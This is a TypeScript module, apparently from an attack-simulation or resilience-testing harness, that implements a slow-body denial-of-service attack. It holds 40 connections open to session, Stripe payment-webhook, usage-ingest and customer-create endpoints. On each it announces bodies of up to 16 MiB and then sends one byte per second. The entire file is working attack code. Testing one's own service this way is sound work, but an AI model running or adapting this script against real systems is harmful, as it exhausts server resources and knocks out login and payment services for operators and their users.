import type { Attacker } from "../attacker.ts";
import { postHead } from "../raw-request.ts";

const connections = 40;
const mebibyte = 1024 * 1024;

/** Bodies that announce the maximum length and arrive at one byte per second. */
export async function sendSlowBodies(attacker: Attacker): Promise<void> {
	const { token } = attacker.target;
	const heads = [
		postHead("/api/v1/session", 16_000),
		postHead("/payment-events/stripe", mebibyte),
		postHead("/api/v1/usage/ingest", 16 * mebibyte, token),
		postHead("/api/v1/customer/create", mebibyte, token),
	];
	attacker.hold(connections, (socket, index) => {
		socket.write(`${heads[index % heads.length]}{`);
		const drip = setInterval(() => socket.write(" "), 1_000);
		socket.once("close", () => clearInterval(drip));
	});
}
